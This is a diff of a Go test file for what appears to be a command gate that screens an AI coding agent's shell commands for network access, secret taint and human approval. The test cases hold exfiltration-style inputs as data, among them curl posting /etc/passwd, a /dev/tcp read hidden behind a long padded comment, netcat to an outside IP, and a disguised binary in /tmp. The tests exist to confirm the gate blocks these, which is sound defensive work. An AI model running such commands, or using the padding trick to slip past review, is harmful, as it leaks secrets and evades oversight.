@@ -11,25 +11,22 @@ import (
 	"weir/internal/classify"
 	"weir/internal/cop"
 	"weir/internal/event"
-	"weir/internal/gate/form"
-	"weir/internal/gate/question"
-	"weir/internal/gate/verdict"
 )
 
 const wanted = "curl -s https://example.org"
 
 // asking is the hook that asks before the command runs.
-func asking(text string) func(*verdict.Request) {
-	return func(r *verdict.Request) {
-		r.Ask, r.Held, r.Command, r.Destination = verdict.Command, false, text, event.Destination{}
+func asking(text string) func(*Request) {
+	return func(r *Request) {
+		r.Ask, r.Held, r.Command, r.Destination = Command, false, text, event.Destination{}
 		r.Process.PID, r.Process.Start, r.Process.Comm, r.Process.Argv = 90, 4000, "weir-hook", []string{"weir-hook", "claude"}
 	}
 }
 
 // shell is what Claude Code then executes.
-func shell(text string) func(*verdict.Request) {
-	return func(r *verdict.Request) {
-		r.Ask, r.Held, r.Destination = verdict.Run, false, event.Destination{}
+func shell(text string) func(*Request) {
+	return func(r *Request) {
+		r.Ask, r.Held, r.Destination = Run, false, event.Destination{}
 		r.Process.PID, r.Process.Start, r.Process.Comm = 95, 4500, "bash"
 		r.Process.Exe = &event.File{Path: "/usr/bin/bash", Device: 8, Inode: 7}
 		r.Process.Argv = []string{"/bin/bash", "-c", "source /root/.claude/shell-snapshots/snapshot-bash-1.sh && eval '" + text + "' \\< /dev/null && pwd -P >| /tmp/claude-1-cwd"}
@@ -37,15 +34,15 @@ func shell(text string) func(*verdict.Request) {
 }
 
 // below is a child of that shell.
-func below(r *verdict.Request) {
+func below(r *Request) {
 	r.Process.Argv = []string{"curl", "-s", "https://example.org"}
 	r.Process.Ancestry = []event.Ancestor{{PID: 95, Start: 4500, Comm: "bash", Exe: "/usr/bin/bash", Argv: []string{"/bin/bash", "-c", "x"}, Inside: true}, {PID: 1, Start: 1, Comm: "init"}}
 }
 
 // frozen was held before it began.
-func frozen(r *verdict.Request) { r.Ask, r.Destination = verdict.Run, event.Destination{} }
+func frozen(r *Request) { r.Ask, r.Destination = Run, event.Destination{} }
 
-func both(r *verdict.Request) { r.Container.Taint = []string{"corruption", "secret"} }
+func both(r *Request) { r.Container.Taint = []string{"corruption", "secret"} }
 
 // approvedRun has the command let run, and seen to run.
 func approvedRun(r *rig) {
@@ -59,8 +56,8 @@ func approvedRun(r *rig) {
 	before := r.theReviewer()
 	approver := r.desk.HasApprover()
 	r.Configure(opinion(false), approver, 0, 0)
-	r.ask(curl(asking(wanted))).gives(verdict.Allow, verdict.Passed)
-	r.ask(curl(shell(wanted))).gives(verdict.Allow, verdict.Recognised)
+	r.ask(curl(asking(wanted))).gives(Allow, Passed)
+	r.ask(curl(shell(wanted))).gives(Allow, Recognised)
 	r.Configure(before, approver, 0, 0)
 }
 
@@ -70,16 +67,16 @@ func TestRecognised(t *testing.T) {
 	bubble(t, func(r *rig) {
 		approvedRun(r)
 		r.Configure(opinion(true), true, 0, 0) // another review would flag it
-		v := r.ask(curl(below)).gives(verdict.Allow, verdict.Recognised)
-		if v.By != verdict.ByCop {
+		v := r.ask(curl(below)).gives(Allow, Recognised)
+		if v.By != ByCop {
 			t.Errorf("by %q", v.By)
 		}
-		r.ask(curl(below, func(r *verdict.Request) {
+		r.ask(curl(below, func(r *Request) {
 			r.Destination = event.Destination{Address: "192.0.2.53", Port: 53, Protocol: "udp", DNS: true}
-		})).gives(verdict.Allow, verdict.Recognised)
-		r.ask(curl(shell(wanted), retry)).gives(verdict.Allow, verdict.SealedRun) // once
-		r.ask(curl(func(r *verdict.Request) { r.Process.Argv = []string{"curl", "-s", "https://example.org"} })).gives(verdict.Deny, verdict.Flagged)
-		r.wantCount(verdict.Recognised, 3)
+		})).gives(Allow, Recognised)
+		r.ask(curl(shell(wanted), retry)).gives(Allow, SealedRun) // once
+		r.ask(curl(func(r *Request) { r.Process.Argv = []string{"curl", "-s", "https://example.org"} })).gives(Deny, Flagged)
+		r.wantCount(Recognised, 3)
 	})
 }
 
@@ -87,33 +84,33 @@ func TestRecognised(t *testing.T) {
 func TestNotRecognised(t *testing.T) {
 	tests := []struct {
 		name   string
-		change func(*verdict.Request)
-		reason verdict.Reason // with a reviewer that flags
+		change func(*Request)
+		reason Reason // with a reviewer that flags
 	}{
-		{"another destination", func(r *verdict.Request) { below(r); r.Destination.Address = "198.51.100.7" }, verdict.Flagged},
-		{"another port", func(r *verdict.Request) { below(r); r.Destination.Port = 8443 }, verdict.Flagged},
-		{"another container", func(r *verdict.Request) { below(r); r.Container.ID = "c2" }, verdict.Flagged},
-		{"another process", func(r *verdict.Request) { below(r); r.Process.Ancestry[0].PID = 96 }, verdict.Flagged},
-		{"a pid used again", func(r *verdict.Request) { below(r); r.Process.Ancestry[0].Start++ }, verdict.Flagged},
+		{"another destination", func(r *Request) { below(r); r.Destination.Address = "198.51.100.7" }, Flagged},
+		{"another port", func(r *Request) { below(r); r.Destination.Port = 8443 }, Flagged},
+		{"another container", func(r *Request) { below(r); r.Container.ID = "c2" }, Flagged},
+		{"another process", func(r *Request) { below(r); r.Process.Ancestry[0].PID = 96 }, Flagged},
+		{"a pid used again", func(r *Request) { below(r); r.Process.Ancestry[0].Start++ }, Flagged},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
 			bubble(t, func(r *rig) {
 				approvedRun(r)
 				r.Configure(opinion(true), true, 0, 0)
-				r.ask(curl(tt.change)).gives(verdict.Deny, tt.reason)
-				r.wantCount(verdict.Differs, 0)
+				r.ask(curl(tt.change)).gives(Deny, tt.reason)
+				r.wantCount(Differs, 0)
 			})
 		})
 	}
-	differs := map[string]func(*verdict.Request){
-		"other arguments": func(r *verdict.Request) { below(r); r.Process.Argv = append(r.Process.Argv, "-d", "@/etc/passwd") },
-		"another program": func(r *verdict.Request) { below(r); r.Process.Argv[0] = "wget" },
-		"a curl of its own": func(r *verdict.Request) {
+	differs := map[string]func(*Request){
+		"other arguments": func(r *Request) { below(r); r.Process.Argv = append(r.Process.Argv, "-d", "@/etc/passwd") },
+		"another program": func(r *Request) { below(r); r.Process.Argv[0] = "wget" },
+		"a curl of its own": func(r *Request) {
 			below(r)
 			r.Process.Exe = &event.File{Path: "/tmp/curl", Device: 8, Inode: 43}
 		},
-		"the shell itself": func(r *verdict.Request) {
+		"the shell itself": func(r *Request) {
 			below(r)
 			r.Process.Argv, r.Process.Exe = []string{"/bin/bash", "-c", "x"}, &event.File{Path: "/usr/bin/bash", Device: 8, Inode: 7}
 		},
@@ -123,8 +120,8 @@ func TestNotRecognised(t *testing.T) {
 			bubble(t, func(r *rig) {
 				approvedRun(r)
 				r.Configure(opinion(false), false, 0, 0) // the reviewer alone would let it out
-				r.ask(curl(change)).gives(verdict.Deny, verdict.NoApprover)
-				r.wantCount(verdict.Differs, 1)
+				r.ask(curl(change)).gives(Deny, NoApprover)
+				r.wantCount(Differs, 1)
 			})
 		})
 	}
@@ -132,7 +129,7 @@ func TestNotRecognised(t *testing.T) {
 
 // G26: a process and all its ancestors are compared within the steps of one comparison.
 func TestB11CoversBounded(t *testing.T) {
-	f, ok := form.Parse(strings.Repeat("curl x$a\n", 4000))
+	f, ok := parseForm(strings.Repeat("curl x$a\n", 4000))
 	if !ok {
 		t.Fatal("the text cannot be parsed")
 	}
@@ -142,9 +139,9 @@ func TestB11CoversBounded(t *testing.T) {
 		p.Ancestry = append(p.Ancestry, event.Ancestor{PID: 99 - i, Exe: "/usr/bin/curl", Argv: argv})
 	}
 	k := running{passed{form: f}, process{pid: 1}}
-	left, covers := form.MaxSteps, true
+	left, covers := maxSteps, true
 	made := testing.AllocsPerRun(1, func() {
-		left = form.MaxSteps
+		left = maxSteps
 		covers = k.covers(p, &left)
 	})
 	if covers || left >= 0 || made > 200 {
@@ -163,21 +160,21 @@ func TestApprovedCommand(t *testing.T) {
 			t.Errorf("asked %+v", q)
 		}
 		r.answer(q.ID, true)
-		c.gives(verdict.Allow, verdict.Approved)
+		c.gives(Allow, Approved)
 		r.crash()
-		approved := r.ask(curl(both, shell(wanted))).gives(verdict.Allow, verdict.Recognised)
+		approved := r.ask(curl(both, shell(wanted))).gives(Allow, Recognised)
 		if approved.By != "alice" || approved.Question != q.ID {
 			t.Errorf("recognised %+v", approved)
 		}
-		r.wantErr(r.Used(q.ID), question.ErrUsed)
+		r.wantErr(r.Used(q.ID), ErrUsed)
 		r.Gate.resolve = func(context.Context, string) ([]netip.Addr, error) {
 			return []netip.Addr{netip.MustParseAddr("203.0.113.9")}, nil
 		}
-		if v := r.ask(curl(both, below)).gives(verdict.Allow, verdict.Recognised); v.By != "alice" {
+		if v := r.ask(curl(both, below)).gives(Allow, Recognised); v.By != "alice" {
 			t.Errorf("by %q", v.By)
 		}
 		again := r.ask(curl(both, shell(wanted), retry))
-		again.gives(verdict.Allow, verdict.SealedRun)
+		again.gives(Allow, SealedRun)
 		next := r.ask(curl(both, asking(wanted)))
 		next.blocks() // it is a new question
 		next.leaves()
@@ -192,8 +189,8 @@ func TestLateCommand(t *testing.T) {
 		c.leaves()
 		r.answer(id, true)
 		r.ask(curl(both, asking("curl -s https://example.org/other"))).leaves()
-		r.ask(curl(both, asking(wanted), retry)).gives(verdict.Allow, verdict.Approved)
-		r.ask(curl(both, shell(wanted))).gives(verdict.Allow, verdict.Recognised)
+		r.ask(curl(both, asking(wanted), retry)).gives(Allow, Approved)
+		r.ask(curl(both, shell(wanted))).gives(Allow, Recognised)
 	})
 }
 
@@ -203,7 +200,7 @@ func TestNoResolver(t *testing.T) {
 		approvedRun(r)
 		r.Gate.resolve = nil
 		r.Configure(opinion(true), true, 0, 0)
-		r.ask(curl(below)).gives(verdict.Deny, verdict.Flagged)
+		r.ask(curl(below)).gives(Deny, Flagged)
 	})
 }
 
@@ -214,32 +211,32 @@ func TestReviewedAtExec(t *testing.T) {
 			return []netip.Addr{netip.MustParseAddr("203.0.113.9")}, nil
 		}
 		r.Configure(opinion(true), true, 0, 0)
-		r.ask(curl(frozen)).gives(verdict.Deny, verdict.Flagged)
+		r.ask(curl(frozen)).gives(Deny, Flagged)
 		r.Configure(opinion(false), true, 0, 0)
-		r.ask(curl(frozen)).gives(verdict.Allow, verdict.Passed)
+		r.ask(curl(frozen)).gives(Allow, Passed)
 		r.Configure(opinion(true), true, 0, 0)
-		r.ask(curl()).gives(verdict.Allow, verdict.Recognised)
-		r.ask(curl(func(r *verdict.Request) { r.Destination.Address = "198.51.100.7" })).gives(verdict.Deny, verdict.Flagged)
-		child := func(r *verdict.Request) {
+		r.ask(curl()).gives(Allow, Recognised)
+		r.ask(curl(func(r *Request) { r.Destination.Address = "198.51.100.7" })).gives(Deny, Flagged)
+		child := func(r *Request) {
 			r.Process.PID, r.Process.Start, r.Process.Argv = 101, 6000, []string{"helper"}
 			r.Process.Ancestry = []event.Ancestor{{PID: 100, Start: 5000, Comm: "curl", Exe: "/usr/bin/curl", Argv: []string{"curl", "https://example.org"}, Inside: true}}
 		}
-		r.ask(curl(frozen, child)).gives(verdict.Allow, verdict.Recognised)
-		r.ask(curl(frozen, retry)).gives(verdict.Deny, verdict.Flagged)
+		r.ask(curl(frozen, child)).gives(Allow, Recognised)
+		r.ask(curl(frozen, retry)).gives(Deny, Flagged)
 	})
 	bubble(t, func(r *rig) { // a person's word at both points
 		c := r.ask(curl(both, frozen))
 		c.blocks()
 		id := r.one()
 		r.answer(id, true)
-		c.gives(verdict.Allow, verdict.Approved)
+		c.gives(Allow, Approved)
 		if err := r.Used(id); err != nil {
 			t.Fatal(err)
 		}
 		r.Gate.resolve = func(context.Context, string) ([]netip.Addr, error) {
 			return []netip.Addr{netip.MustParseAddr("203.0.113.9")}, nil
 		}
-		r.ask(curl(both)).gives(verdict.Allow, verdict.Recognised)
+		r.ask(curl(both)).gives(Allow, Recognised)
 	})
 }
 
@@ -247,15 +244,15 @@ func TestReviewedAtExec(t *testing.T) {
 func TestReviewedByFile(t *testing.T) {
 	bubble(t, func(r *rig) {
 		r.Configure(cop.Static{}, true, 0, 0)
-		disguised := func(r *verdict.Request) {
+		disguised := func(r *Request) {
 			r.Process.Exe = &event.File{Path: "/tmp/evil", Device: 8, Inode: 99}
 			r.Process.Argv = []string{"/x/ab", "203.0.113.9"} // ab is a program of the network, and its word a host
 		}
-		r.ask(curl(both, disguised, frozen)).gives(verdict.Allow, verdict.Passed)
+		r.ask(curl(both, disguised, frozen)).gives(Allow, Passed)
 		c := r.ask(curl(both, disguised))
 		c.blocks()
 		c.leaves()
-		r.wantCount(verdict.Recognised, 0)
+		r.wantCount(Recognised, 0)
 	})
 }
 
@@ -263,7 +260,7 @@ func TestReviewedByFile(t *testing.T) {
 // reviewer passes such a command.
 func TestFactsThatDoNotFit(t *testing.T) {
 	bubble(t, func(r *rig) {
-		secret := func(r *verdict.Request) { r.Container.Taint = []string{"secret"} }
+		secret := func(r *Request) { r.Container.Taint = []string{"secret"} }
 		r.Configure(cop.Static{}, false, 0, 0)
 		const fetch = `./tool "http://203.0.113.9:443/\\"`
 		var many strings.Builder
@@ -272,9 +269,9 @@ func TestFactsThatDoNotFit(t *testing.T) {
 			fmt.Fprintf(&many, " 127.0.0.%d", i+1)
 		}
 		many.WriteString("; " + fetch)
-		r.ask(curl(secret, asking(fetch))).gives(verdict.Deny, verdict.Flagged)
-		r.ask(curl(secret, asking(many.String()))).gives(verdict.Deny, verdict.NoApprover)
-		r.wantCount(verdict.TextLimit, 1)
+		r.ask(curl(secret, asking(fetch))).gives(Deny, Flagged)
+		r.ask(curl(secret, asking(many.String()))).gives(Deny, NoApprover)
+		r.wantCount(TextLimit, 1)
 		if o, _ := (cop.Static{}).Review(t.Context(), cop.Case{Command: many.String(), Judged: classify.Shell(many.String())}); !o.Flagged {
 			t.Errorf("the static reviewer says that it %s", o.Reason)
 		}
@@ -293,24 +290,24 @@ func TestLocalNameAsksNobody(t *testing.T) {
 	bubble(t, func(r *rig) {
 		const text = "./tool http://localhost/ http://host.docker.internal/"
 		r.Configure(cop.Static{}, false, 0, 0)
-		secret := func(r *verdict.Request) { r.Container.Taint = []string{"secret"} }
-		r.ask(curl(secret, asking(text))).gives(verdict.Allow, verdict.Passed)
-		r.ask(curl(secret, shell(text))).gives(verdict.Allow, verdict.Recognised)
-		r.ask(curl(secret, below, func(r *verdict.Request) {
+		secret := func(r *Request) { r.Container.Taint = []string{"secret"} }
+		r.ask(curl(secret, asking(text))).gives(Allow, Passed)
+		r.ask(curl(secret, shell(text))).gives(Allow, Recognised)
+		r.ask(curl(secret, below, func(r *Request) {
 			r.Process.Argv = []string{"./tool", "http://localhost/", "http://host.docker.internal/"}
 			r.Destination = event.Destination{Address: "203.0.113.66", Port: 53, Protocol: "tcp", DNS: true}
-		})).gives(verdict.Deny, verdict.Flagged)
+		})).gives(Deny, Flagged)
 	})
 }
 
 // G9, G26: a reviewer judges all of a command, however little of it a question keeps; what passed is then recognised.
 func TestReviewedWhole(t *testing.T) {
 	bubble(t, func(r *rig) {
-		secret := func(r *verdict.Request) { r.Container.Taint = []string{"secret"} }
+		secret := func(r *Request) { r.Container.Taint = []string{"secret"} }
 		text := "make # " + strings.Repeat("a", 40<<10) + "\ncat < /dev/tcp/203.0.113.9/80"
 		r.Configure(cop.Static{}, false, 0, 0)
-		r.ask(curl(secret, asking(text))).gives(verdict.Deny, verdict.Flagged)
-		if f := Foresee(t.Context(), curl(secret, asking(text)), cop.Static{}, false); f.Reason != verdict.Flagged {
+		r.ask(curl(secret, asking(text))).gives(Deny, Flagged)
+		if f := Foresee(t.Context(), curl(secret, asking(text)), cop.Static{}, false); f.Reason != Flagged {
 			t.Errorf("foreseen: %+v", f)
 		}
 		var seen string
@@ -318,13 +315,13 @@ func TestReviewedWhole(t *testing.T) {
 			seen = c.Command
 			return cop.Opinion{Reason: "fine"}, nil
 		}), false, 0, 0)
-		r.ask(curl(secret, asking(text))).gives(verdict.Allow, verdict.Passed)
+		r.ask(curl(secret, asking(text))).gives(Allow, Passed)
 		if seen != text {
 			t.Errorf("the reviewer was given %d bytes of %d", len(seen), len(text))
 		}
-		whole := func(r *verdict.Request) { shell("")(r); r.Process.Argv = []string{"bash", "-c", text} }
-		r.ask(curl(secret, whole)).gives(verdict.Allow, verdict.Recognised)
-		r.ask(curl(secret, asking("make # "+strings.Repeat("a", cop.MaxCase)))).gives(verdict.Allow, verdict.Passed)
+		whole := func(r *Request) { shell("")(r); r.Process.Argv = []string{"bash", "-c", text} }
+		r.ask(curl(secret, whole)).gives(Allow, Recognised)
+		r.ask(curl(secret, asking("make # "+strings.Repeat("a", cop.MaxCase)))).gives(Allow, Passed)
 
 		guarded, err := cop.New(cop.Options{})
 		if err != nil {
@@ -332,8 +329,8 @@ func TestReviewedWhole(t *testing.T) {
 		}
 		defer guarded.Close()
 		r.Configure(guarded, false, 0, 0)
-		r.ask(curl(secret, asking("make # "+strings.Repeat("a", cop.MaxCase)))).gives(verdict.Deny, verdict.NoApprover)
-		r.wantCount(verdict.CopTooLarge, 1)
+		r.ask(curl(secret, asking("make # "+strings.Repeat("a", cop.MaxCase)))).gives(Deny, NoApprover)
+		r.wantCount(CopTooLarge, 1)
 		for _, e := range r.log.events {
 			if len(e.Command) > 33<<10 {
 				t.Errorf("an event has %d bytes of a command", len(e.Command))
@@ -344,8 +341,8 @@ func TestReviewedWhole(t *testing.T) {
 
 // G25, review: exec: a process that was let begin and then executes another command is judged again; its next steps go by that.
 func TestExecutesAnother(t *testing.T) {
-	program := func(path string, argv ...string) func(*verdict.Request) {
-		return func(r *verdict.Request) {
+	program := func(path string, argv ...string) func(*Request) {
+		return func(r *Request) {
 			r.Process.Exe, r.Process.Argv = &event.File{Path: path, Device: 8, Inode: 50}, argv
 		}
 	}
@@ -355,17 +352,17 @@ func TestExecutesAnother(t *testing.T) {
 		}
 		wrapper := program("/usr/bin/bash", "bash", "-c", "env A=b curl https://example.org")
 		r.Configure(opinion(false), true, 0, 0)
-		r.ask(curl(frozen, wrapper)).gives(verdict.Allow, verdict.Passed)
+		r.ask(curl(frozen, wrapper)).gives(Allow, Passed)
 		r.Configure(opinion(true), true, 0, 0)
-		r.ask(curl(frozen, wrapper)).gives(verdict.Allow, verdict.Recognised) // as it is seen to run
-		r.ask(curl(frozen, program("/usr/bin/env", "env", "A=b", "curl", "https://example.org"))).gives(verdict.Allow, verdict.Recognised)
-		r.ask(curl(frozen, program("/usr/bin/nc", "nc", "203.0.113.9", "443"))).gives(verdict.Deny, verdict.Flagged)
-		r.ask(curl(frozen, program("/usr/bin/bash", "bash", "-c", "make other"))).gives(verdict.Deny, verdict.Flagged)
-		r.ask(curl(frozen)).gives(verdict.Deny, verdict.Flagged) // what env starts is not known to be its word
+		r.ask(curl(frozen, wrapper)).gives(Allow, Recognised) // as it is seen to run
+		r.ask(curl(frozen, program("/usr/bin/env", "env", "A=b", "curl", "https://example.org"))).gives(Allow, Recognised)
+		r.ask(curl(frozen, program("/usr/bin/nc", "nc", "203.0.113.9", "443"))).gives(Deny, Flagged)
+		r.ask(curl(frozen, program("/usr/bin/bash", "bash", "-c", "make other"))).gives(Deny, Flagged)
+		r.ask(curl(frozen)).gives(Deny, Flagged) // what env starts is not known to be its word
 		r.Configure(opinion(false), true, 0, 0)
-		r.ask(curl(frozen)).gives(verdict.Allow, verdict.Passed)
+		r.ask(curl(frozen)).gives(Allow, Passed)
 		r.Configure(opinion(true), true, 0, 0)
-		r.ask(curl()).gives(verdict.Allow, verdict.Recognised)
+		r.ask(curl()).gives(Allow, Recognised)
 	})
 }
 
@@ -373,15 +370,15 @@ func TestExecutesAnother(t *testing.T) {
 func TestMoreTaintVoids(t *testing.T) {
 	bubble(t, func(r *rig) {
 		approvedRun(r) // with one bit
-		r.ask(curl(below)).gives(verdict.Allow, verdict.Recognised)
+		r.ask(curl(below)).gives(Allow, Recognised)
 		c := r.ask(curl(both, below))
 		c.blocks()
 		c.leaves()
 	})
 	bubble(t, func(r *rig) {
 		r.Configure(opinion(false), true, 0, 0)
-		r.ask(curl(asking(wanted))).gives(verdict.Allow, verdict.Passed)
-		r.ask(curl(both, shell(wanted))).gives(verdict.Allow, verdict.SealedRun)
+		r.ask(curl(asking(wanted))).gives(Allow, Passed)
+		r.ask(curl(both, shell(wanted))).gives(Allow, SealedRun)
 	})
 	bubble(t, func(r *rig) { // a person's approval, given while there was less
 		c := r.ask(curl())
@@ -391,7 +388,7 @@ func TestMoreTaintVoids(t *testing.T) {
 		again := r.ask(curl(both, retry))
 		again.blocks()
 		again.leaves()
-		r.ask(curl(retry)).gives(verdict.Allow, verdict.Approved)
+		r.ask(curl(retry)).gives(Allow, Approved)
 	})
 	bubble(t, func(r *rig) { // a question that waits
 		c := r.ask(curl())
